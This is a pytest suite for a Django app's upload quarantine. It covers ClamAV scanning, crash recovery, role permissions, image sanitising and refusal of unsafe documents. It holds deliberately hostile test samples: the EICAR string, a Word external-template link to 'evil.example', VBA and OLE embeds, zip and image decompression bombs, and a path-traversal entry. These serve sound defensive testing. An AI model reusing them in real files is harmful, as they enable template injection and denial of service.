"""Files wait in quarantine until the worker has scanned them; what cannot be asked is no yes, and a crash loses nothing."""

import hashlib
import io
import shutil
import subprocess
import time
from pathlib import Path
from typing import Any

import pytest
from django.db import ProgrammingError, connection, transaction
from PIL import Image

from agencies import clock
from agencies.exceptions import Invalid
from agencies.models import AuditEvent
from casework import file_checks, file_types, files, malware, pictures, selectors
from casework.enums import FileType
from casework.exceptions import FileNotReady, FileRefused, Unfit
from casework.file_states import FileRefusal, FileScan, FileState
from casework.malware import ScannerAway
from casework.models import Document, FileCheck
from tests.clamd import HARM, a_scanner, drips, says
from tests.conftest import database_role
from tests.factories.agencies import Cast
from tests.factories.casework import Scene, make_scene
from tests.factories.papers import PDF, a_folder, make_file, open_document, packed, picture, word

EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"


@pytest.fixture
def folder() -> Any:
    with a_folder() as path:
        yield Path(path)


@pytest.fixture
def scene(cast: Cast) -> Scene:
    with database_role("seed"):
        return make_scene(cast)


def kept(scene: Scene, content: bytes = PDF) -> Document:
    """A document whose file was brought in by a page."""
    with database_role("app"):
        return make_file(scene, content)


def check(times: int = 1) -> bool:
    """As the worker does."""
    with database_role("worker"):
        for _ in range(times):
            more = file_checks.check_next()
        return more


def state(document: Document) -> tuple[str, str]:
    row = FileCheck.objects.get(document=document)
    return row.state, row.refusal


def opened(scene: Scene, document: Document) -> bytes:
    return file_checks.given_out(selectors.document_for(scene.cast.asha, document.pk)).content


# The way of a file


def test_a_clean_file_goes_from_quarantine_to_where_it_is_given_out(scene: Scene, folder: Path) -> None:
    document = kept(scene)
    key = document.file_key.hex
    with pytest.raises(FileNotReady, match="being checked"), a_scanner():
        opened(scene, document)
    with a_scanner() as scanner:
        assert check()
        assert not check()
    assert scanner.asked == 1
    assert [path.relative_to(folder).as_posix() for path in folder.rglob("*") if path.is_file()] == [f"clean/{key}"]
    assert opened(scene, document) == PDF
    row = FileCheck.objects.get()
    assert (row.state, row.scan, row.size, row.sha256) == ("clean", "here", len(PDF), hashlib.sha256(PDF).hexdigest())
    told = AuditEvent.objects.get(event="file.clean")
    assert (told.system, told.case_id, told.subject_id) == ("files", scene.case.pk, document.file_key)


def test_what_does_harm_is_never_given_out(scene: Scene, folder: Path) -> None:
    document = kept(scene, PDF + HARM)
    with a_scanner():
        assert check()
        assert not check(), "decided once"
    assert state(document) == (FileState.REFUSED, FileRefusal.HARMFUL)
    assert FileCheck.objects.get().finding == "Test.Harm-1"
    with pytest.raises(FileRefused, match="Something harmful was found"):
        opened(scene, document)
    assert list(folder.glob("clean/*")) == []
    assert AuditEvent.objects.filter(event="file.refused", case_id=scene.case.pk).count() == 1


SILENT_FOR = 0.4


@pytest.mark.parametrize(
    ("scanner", "trouble"),
    [
        ({"limit": 10}, "size limit exceeded"),
        ({"answer": lambda line, sent: time.sleep(2 * SILENT_FOR)}, "too long"),
        ({"answer": drips}, "too long"),
        ({"answer": says(b"stream: O")}, "hung up"),
        ({"answer": says(b"stream: OK")}, "hung up"),
        ({"answer": says(b"")}, "hung up"),
        ({"answer": says(b"stream: OKAY\0")}, "it said"),
        ({"answer": says(b"stream: OK\nstream: X FOUND\0")}, "it said"),
        ({"answer": says(b"UNKNOWN COMMAND\0")}, "it said"),
        ({"answer": says(b"x" * 100_000)}, ""),
    ],
    ids=["limit", "hangs", "drips", "half an answer", "no end", "hangs up", "more", "two answers", "other", "endless"],
)
def test_whatever_is_no_whole_yes_leaves_the_file_waiting(
    scene: Scene, folder: Path, scanner: dict[str, Any], trouble: str
) -> None:
    document = kept(scene, PDF + b"0" * 300_000)
    with a_scanner(CLAMD_SECONDS=SILENT_FOR, **scanner):
        assert not check(), "others wait as well: it is not asked again at once"
        assert state(document) == (FileState.WAITING, "")
        assert trouble in FileCheck.objects.get().trouble
        with pytest.raises(FileNotReady, match="could not be checked for harm yet"):
            opened(scene, document)
    assert list(folder.glob("clean/*")) == []
    later(seconds=61)
    with a_scanner():
        assert check()
    assert state(document)[0] == FileState.CLEAN


def later(*, seconds: int) -> None:
    """As if so long ago: what it waits for, and the lease of whoever took it."""
    with database_role("seed"), connection.cursor() as cursor:
        cursor.execute(
            "UPDATE casework_filecheck SET try_after = try_after - make_interval(secs => %s),"
            " lease_until = lease_until - make_interval(secs => %s) WHERE state = 'waiting'",
            [seconds, seconds],
        )


def test_a_scanner_that_is_not_there_leaves_it_waiting(
    scene: Scene, folder: Path, settings: Any, tmp_path: Path
) -> None:
    document = kept(scene)
    for address in ("127.0.0.1:1", str(tmp_path / "no.sock")):
        settings.CLAMD = address
        assert not check()
        later(seconds=61)
    assert state(document) == (FileState.WAITING, "")


# A crash


def test_a_file_is_taken_by_one_at_a_time_and_by_another_after_a_crash(scene: Scene, folder: Path) -> None:
    document = kept(scene)
    with a_scanner() as scanner:
        with database_role("worker"):
            assert file_checks.claim_next() is not None  # and its process ends here
        assert not check()
        assert scanner.asked == 0
        later(seconds=file_checks.LEASE_SECONDS + 1)
        assert check()
    assert state(document)[0] == FileState.CLEAN


@pytest.mark.parametrize("at", ["release", "leave_quarantine"])
def test_cut_off_anywhere_it_is_whole_in_the_end(scene: Scene, folder: Path, monkeypatch: Any, at: str) -> None:
    document = kept(scene)

    def dies(*_: Any) -> None:
        raise SystemExit(at)

    with a_scanner():
        with monkeypatch.context() as dying:
            dying.setattr(files.Cleaned if at == "release" else files, at, dies)
            with pytest.raises(SystemExit):
                check()
        later(seconds=file_checks.LEASE_SECONDS + 1)
        check()
    assert opened(scene, document) == PDF
    assert AuditEvent.objects.filter(event="file.clean").count() == 1
    with database_role("seed"):
        assert files.sweep().missing == []


def test_who_lost_the_file_meanwhile_decides_nothing(scene: Scene, folder: Path) -> None:
    document = kept(scene)

    with database_role("worker"):
        taken = file_checks.claim_next()
        assert taken is not None
        later(seconds=file_checks.LEASE_SECONDS + 1)
        file_checks.claim_next()
        with files.in_quarantine(taken.key) as file:
            file_checks._look(taken, file, FileScan.ELSEWHERE)
    assert state(document) == (FileState.WAITING, "")
    assert list(folder.glob("clean/*")) == []


def test_one_that_ends_each_process_is_not_tried_for_ever(scene: Scene, folder: Path) -> None:
    document = kept(scene)
    with a_scanner() as scanner:
        for _ in range(file_checks.MOST_TRIES):
            with database_role("worker"):
                assert file_checks.claim_next() is not None
            later(seconds=file_checks.LEASE_SECONDS + 1)
        assert check()
    assert scanner.asked == 0
    assert state(document) == (FileState.REFUSED, FileRefusal.DAMAGED)


def test_one_whose_file_is_missing_does_not_hold_up_the_next(scene: Scene, folder: Path) -> None:
    gone, other = kept(scene), kept(scene)
    (folder / "quarantine" / gone.file_key.hex).unlink()
    with a_scanner():
        check(2)
    assert (state(gone)[0], state(other)[0]) == (FileState.WAITING, FileState.CLEAN)


# Who may decide


def test_who_serves_pages_cannot_say_that_a_file_is_clean(scene: Scene, folder: Path) -> None:
    document = kept(scene)
    decided = "state = 'clean', decided_at = clock(), scan = 'here', size = 1, sha256 = repeat('0', 64)"
    with database_role("app"), connection.cursor() as cursor:
        with pytest.raises(ProgrammingError, match="permission denied"), transaction.atomic():
            cursor.execute(f"UPDATE casework_filecheck SET {decided}")
        with pytest.raises(ProgrammingError, match="permission denied"), transaction.atomic():
            cursor.execute("DELETE FROM casework_filecheck")
    assert state(document) == (FileState.WAITING, "")


@pytest.mark.parametrize(
    ("given", "can"),
    [
        ({"CLAMD": "", "DEVELOPMENT": False}, None),
        ({"CLAMD": "", "DEVELOPMENT": False, "FILES_SCANNED_ELSEWHERE": True}, FileScan.ELSEWHERE),
        ({"CLAMD": "", "DEVELOPMENT": True}, FileScan.NONE),
    ],
)
def test_without_a_scanner_nothing_is_given_out_unless_the_site_says_that_it_scans(
    scene: Scene, folder: Path, settings: Any, given: dict[str, Any], can: FileScan | None
) -> None:
    for name, value in given.items():
        setattr(settings, name, value)
    document = kept(scene)
    assert file_checks.can_check() == can
    assert check() is (can is not None)
    if can is None:
        with pytest.raises(FileNotReady, match="nothing checks them for harm"):
            opened(scene, document)
        return
    assert opened(scene, document) == PDF
    assert FileCheck.objects.get().scan == can


def test_a_file_that_was_changed_on_the_disk_is_not_given_out(scene: Scene, folder: Path) -> None:
    document = kept(scene)
    with a_scanner():
        check()
    for content in (PDF + b"more", None):
        path = folder / "clean" / document.file_key.hex
        path.unlink() if content is None else path.write_bytes(content)
        with pytest.raises(FileNotReady, match="not as it was"):
            opened(scene, document)


# What a file is


def exif() -> Image.Exif:
    told = Image.Exif()
    told[0x0110] = "Pixel of Rosa"
    told[0x0112] = 6  # to be turned by a quarter
    told.get_ifd(0x8825)[2] = (51.0, 30.0, 26.0)
    return told


@pytest.mark.parametrize("kind", ["JPEG", "PNG", "WEBP"])
def test_a_picture_loses_where_it_was_taken_and_stands_upright(scene: Scene, folder: Path, kind: str) -> None:
    sent = picture(kind, (40, 30), exif=exif()) + b"<script>a tail that browsers would run</script>"
    assert b"Rosa" in sent
    document = kept(scene, sent)
    with a_scanner():
        check()
    given = opened(scene, document)
    shown = Image.open(io.BytesIO(given))
    assert (shown.format, shown.size) == (kind, (30, 40))
    assert dict(shown.getexif()) == {}
    assert b"Rosa" not in given
    assert b"script" not in given
    assert (document.file_size, document.file_sha256) == (len(sent), hashlib.sha256(sent).hexdigest())


@pytest.mark.parametrize(
    ("kind", "mode"),
    [(FileType.PNG, "1"), (FileType.PNG, "P"), (FileType.PNG, "I;16"), (FileType.PNG, "RGBA"), (FileType.PNG, "LA"),
     (FileType.JPEG, "CMYK"), (FileType.JPEG, "L"), (FileType.WEBP, "RGBA")],
)  # fmt: skip
def test_every_way_in_which_a_scanner_writes_can_be_drawn(kind: FileType, mode: str) -> None:
    drawn = Image.open(io.BytesIO(pictures.redraw(io.BytesIO(picture(pictures.FORMATS[kind], mode=mode)), kind)))
    assert drawn.mode in pictures.MODES[kind]


def test_a_large_photograph_is_drawn_smaller_and_can_still_be_read() -> None:
    drawn = Image.open(io.BytesIO(pictures.redraw(io.BytesIO(picture(size=(8064, 6048))), FileType.JPEG)))
    assert drawn.size == (4032, 3024)


def png_of(width: int, height: int) -> bytes:
    """The head of a picture that would fill the memory; nobody may come as far as its points."""
    whole = bytearray(picture("PNG"))
    whole[16:24] = width.to_bytes(4, "big") + height.to_bytes(4, "big")
    import zlib  # noqa: PLC0415

    whole[29:33] = zlib.crc32(whole[12:29]).to_bytes(4, "big")
    return bytes(whole)


LINK = b'<Relationship Type="http://x/attachedTemplate" Target="http://evil.example/a.dotm" TargetMode="External"/>'
MANY = {f"word/media/{number}.txt": b"" for number in range(1001)}


@pytest.mark.parametrize(
    ("content", "refusal"),
    [
        (png_of(50_000, 50_000), FileRefusal.TOO_LARGE),
        (png_of(10_000, 6_000), FileRefusal.TOO_LARGE),
        (picture()[:200], FileRefusal.DAMAGED),
        (b"\x89PNG\r\n\x1a\n" + b"0" * 100, FileRefusal.DAMAGED),
        (b"GIF89a" + b"0" * 100, FileRefusal.UNKNOWN),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"0" * 100, FileRefusal.UNKNOWN),
        (packed({"a.txt": b"a"}), FileRefusal.UNKNOWN),
        (packed({"xl/workbook.xml": b"", "[Content_Types].xml": b"sheet"}), FileRefusal.UNKNOWN),
        (word()[:-30], FileRefusal.DAMAGED),
        (word(word__media__a_o_xml=b"0" * 60_000_000), FileRefusal.PACKED),
        (word(word__media__a_o_xml=b"0" * 5_000_000), FileRefusal.PACKED),
        (packed({**MANY, "[Content_Types].xml": b""}), FileRefusal.PACKED),
        (word(word__vbaProject_o_bin=b"x"), FileRefusal.ACTIVE),
        (word(word__embeddings__oleObject1_o_bin=b"x"), FileRefusal.ACTIVE),
        (word(word___rels__settings_o_xml_o_rels=LINK), FileRefusal.ACTIVE),
        (open_document(**{"Basic/Standard/Module1.xml": b"x"}), FileRefusal.ACTIVE),
        (word(**{".._o___o_./evil": b"x"}), FileRefusal.DAMAGED),
    ],
)
def test_what_is_not_taken_and_why(content: bytes, refusal: FileRefusal) -> None:
    def drawn() -> bytes:
        return pictures.redraw(io.BytesIO(content), file_types.type_of(io.BytesIO(content)))

    with pytest.raises(Unfit) as refused:
        drawn()
    assert refused.value.refusal == refusal


def test_a_zip_that_lies_about_its_size_is_found_out() -> None:
    whole = word(word__media__a_o_xml=b"0" * 300_000)
    lying = whole.replace((300_000).to_bytes(4, "little"), (3).to_bytes(4, "little"))
    assert lying != whole
    with pytest.raises(Unfit) as refused:
        file_types.type_of(io.BytesIO(lying))
    assert refused.value.refusal == FileRefusal.DAMAGED


def test_every_refusal_has_its_words_and_every_kind_its_ending() -> None:
    assert set(file_types.WORDS) == set(FileRefusal)
    assert set(file_types.KINDS) == set(FileType) - {FileType.HEIC}


# A real one


@pytest.mark.skipif(shutil.which("clamd") is None, reason="Debian's clamav-daemon is not installed on this machine")
def test_clamd_itself_finds_eicar(tmp_path: Path, settings: Any) -> None:
    (tmp_path / "own.ndb").write_text(f"Own.Eicar:0:0:{EICAR.hex()}\n")
    socket, conf = tmp_path / "clamd.sock", tmp_path / "clamd.conf"
    conf.write_text(f"LocalSocket {socket}\nDatabaseDirectory {tmp_path}\nForeground yes\n")
    daemon = subprocess.Popen(["clamd", "-c", str(conf)], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    try:
        settings.CLAMD = str(socket)
        until = time.monotonic() + 30
        while not socket.exists() and time.monotonic() < until:
            time.sleep(0.1)
        assert malware.scan(io.BytesIO(PDF)) == ""
        assert "Own.Eicar" in malware.scan(io.BytesIO(EICAR))
    finally:
        daemon.terminate()
        daemon.wait()


def test_too_much_at_once_is_refused(scene: Scene, folder: Path, settings: Any) -> None:
    settings.FILES_PER_MINUTE = 0
    from agencies.exceptions import TooOften  # noqa: PLC0415

    with pytest.raises(TooOften):
        kept(scene)


def test_a_document_says_where_it_is_held_or_brings_its_file(scene: Scene, folder: Path) -> None:
    with pytest.raises(Invalid, match="where it is held"):
        make_file(scene, None)
    assert kept(scene).held_where == "Kept in Alongside"
    assert clock.today() == Document.objects.get().dated_on


def test_a_scanner_by_the_path_of_its_socket(tmp_path: Path, settings: Any) -> None:
    settings.CLAMD = str(tmp_path / "none.sock")
    with pytest.raises(ScannerAway, match="FileNotFoundError"):
        malware.scan(io.BytesIO(PDF))
